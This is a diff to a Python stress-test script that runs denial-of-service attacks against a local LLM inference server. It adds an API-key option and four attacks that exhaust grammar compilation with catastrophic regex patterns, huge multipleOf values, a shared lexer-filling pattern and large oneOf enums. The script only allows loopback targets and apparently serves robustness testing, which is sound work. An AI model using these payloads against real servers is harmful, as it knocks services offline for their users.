@@ -10,6 +10,7 @@ from __future__ import annotations
 import argparse
 import contextlib
 import http.client
+import itertools
 import json
 import resource
 import socket
@@ -33,6 +34,8 @@ class Target:
     model: str
     seconds: float
     scale: float = 1.0
+    key: str = ""
+    """API key of the attacker."""
     streams: int = 64
     """Streams that are never read: as many as the server has sequence slots."""
 
@@ -49,12 +52,24 @@ def post(target: Target, path: str, body: bytes) -> int:
     """Sends one request; its status, or 0 where the connection ended without an answer."""
     link = http.client.HTTPConnection(target.host, target.port, timeout=120)
     with contextlib.closing(link), contextlib.suppress(OSError, http.client.HTTPException):
-        link.request("POST", path, body, {"content-type": "application/json"})
+        link.request("POST", path, body, {"content-type": "application/json", **key_header(target)})
         answer = link.getresponse()
         while answer.read(1 << 20):
             pass
         return answer.status
     return 0
+
+
+def key_header(target: Target) -> dict[str, str]:
+    return {"authorization": f"Bearer {target.key}"} if target.key else {}
+
+
+def at_once(target: Target, clients: int, send: Callable[[int], int]) -> list[int]:
+    """Statuses of ``send``, called by ``clients`` until the time is over, each time with a new number."""
+    numbers = itertools.count()
+    with ThreadPoolExecutor(clients) as pool:
+        found = pool.map(lambda _: again(target, lambda: send(next(numbers))), range(clients))
+        return [status for statuses in found for status in statuses]
 
 
 def again(target: Target, send: Callable[[], int]) -> list[int]:
@@ -88,9 +103,7 @@ def long_prompts(target: Target) -> list[int]:
     """Ten clients with prompts of 7.7 MB."""
     text = WORDS * (target.times(7_700_000) // len(WORDS))
     body = encoded(target, prompt=text, max_tokens=1)
-    with ThreadPoolExecutor(10) as pool:
-        found = pool.map(lambda _: again(target, lambda: post(target, COMPLETIONS, body)), range(10))
-        return [status for statuses in found for status in statuses]
+    return at_once(target, 10, lambda _: post(target, COMPLETIONS, body))
 
 
 def nested(target: Target) -> list[int]:
@@ -105,7 +118,7 @@ def nested(target: Target) -> list[int]:
 
 def chunks(target: Target) -> list[int]:
     """A body in a million chunks of one byte."""
-    head = head_of("transfer-encoding: chunked")
+    head = head_of(target, "transfer-encoding: chunked")
     piece = b"1\r\n \r\n" * 10_000
 
     def send() -> int:
@@ -124,7 +137,7 @@ def idle_uploads(target: Target) -> list[int]:
     """2,000 connections that send headers and one byte of a body."""
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    head = head_of("content-length: 1000000") + b"{"
+    head = head_of(target, "content-length: 1000000") + b"{"
     with contextlib.ExitStack() as held:
         for _ in range(target.times(2000)):
             with contextlib.suppress(OSError):
@@ -146,7 +159,7 @@ def never_read(target: Target) -> list[int]:
         logprobs=True,
         top_logprobs=5,
     )
-    head = head_of(f"content-length: {len(body)}")
+    head = head_of(target, f"content-length: {len(body)}")
     with contextlib.ExitStack() as held:
         for _ in range(target.streams):
             link = held.enter_context(connect(target))
@@ -168,6 +181,66 @@ def echo_logprobs(target: Target) -> list[int]:
     return again(target, send)
 
 
+# ---- grammars: sizes are not scaled, since it is the size that attacks
+
+
+def grammar(target: Target, path: str = CHAT, **fields: Any) -> bytes:
+    """A request for one token, or as many as ``fields`` say, under a grammar."""
+    messages = [{"role": "user", "content": "Hi"}]
+    return encoded(target, **{"messages": messages, "max_tokens": 1, **fields})
+
+
+def schema(value: Any) -> dict[str, Any]:
+    """The field that asks for an answer under a JSON schema."""
+    return {"response_format": {"type": "json_schema", "json_schema": {"name": "a", "schema": value}}}
+
+
+def endless_grammars(target: Target) -> list[int]:
+    """Eight clients with schemas of 59 patterns, each another one, whose compile does not end."""
+
+    def send(number: int) -> int:
+        pattern = "^(a|b)*a(a|b){%d}c{%d}$"
+        parts = [{"type": "string", "pattern": pattern % (17 + n % 3, 3 + n)} for n in range(59)]
+        return post(target, CHAT, grammar(target, **schema({"allOf": parts, "title": str(number)})))
+
+    return at_once(target, 8, send)
+
+
+def large_grammars(target: Target) -> list[int]:
+    """Eight clients with multiples of numbers, each another one: the largest that are taken, and larger."""
+
+    def send(number: int) -> int:
+        divisor = 98_993 - number if number % 2 else 29_989 - number
+        return post(target, CHAT, grammar(target, **schema({"type": "integer", "multipleOf": divisor})))
+
+    return at_once(target, 8, send)
+
+
+SHARED_PATTERN = "([a-z]|[a-z][a-z])*a[a-z]{40}c{3}"
+"""A grammar of which the canary uses the same one."""
+
+
+def spent_grammars(target: Target) -> list[int]:
+    """Eight clients whose random outputs fill a lexer that others would use, too."""
+
+    def send(number: int) -> int:
+        fields = {"guided_regex": SHARED_PATTERN, "max_tokens": 400, "temperature": 2, "seed": number}
+        return post(target, CHAT, grammar(target, **fields))
+
+    return at_once(target, 8, send)
+
+
+def exclusive_grammars(target: Target) -> list[int]:
+    """Eight clients with ``oneOf`` of 199 lists of values, each another one, in small and large bodies."""
+
+    def send(number: int) -> int:
+        count = 12 if number % 2 else 60
+        parts = [{"enum": [f"{number}-{n}-{k}" for k in range(count)]} for n in range(199)]
+        return post(target, CHAT, grammar(target, **schema({"oneOf": parts})))
+
+    return at_once(target, 8, send)
+
+
 ATTACKS: dict[str, Callable[[Target], list[int]]] = {
     "bad_words": bad_words,
     "stops": stops,
@@ -177,12 +250,18 @@ ATTACKS: dict[str, Callable[[Target], list[int]]] = {
     "idle_uploads": idle_uploads,
     "never_read": never_read,
     "echo_logprobs": echo_logprobs,
+    "endless_grammars": endless_grammars,
+    "large_grammars": large_grammars,
+    "spent_grammars": spent_grammars,
+    "exclusive_grammars": exclusive_grammars,
 }
 
 
-def head_of(length: str) -> bytes:
+def head_of(target: Target, length: str) -> bytes:
     """The head of a chat request; ``length`` is the header that tells how long its body is."""
-    return f"POST {CHAT} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n{length}\r\n\r\n".encode()
+    lines = [f"POST {CHAT} HTTP/1.1", "host: x", "content-type: application/json", length]
+    lines += [f"{name}: {value}" for name, value in key_header(target).items()]
+    return "\r\n".join([*lines, "", ""]).encode()
 
 
 def connect(target: Target) -> socket.socket:
@@ -203,11 +282,12 @@ def main() -> None:
     parser.add_argument("--seconds", type=float, default=10.0)
     parser.add_argument("--scale", type=float, default=1.0)
     parser.add_argument("--streams", type=int, default=64)
+    parser.add_argument("--key", default="", help="API key of the attacker")
     args = parser.parse_args()
     url = urlsplit(args.url)
     if url.hostname not in ("127.0.0.1", "localhost", "::1") or url.port is None:
         parser.error("only a server on a loopback address can be attacked")
-    target = Target(url.hostname, url.port, args.model, args.seconds, args.scale, args.streams)
+    target = Target(url.hostname, url.port, args.model, args.seconds, args.scale, args.key, args.streams)
     found = ATTACKS[args.attack](target)
     print(json.dumps({str(status): found.count(status) for status in sorted(set(found))}))
 
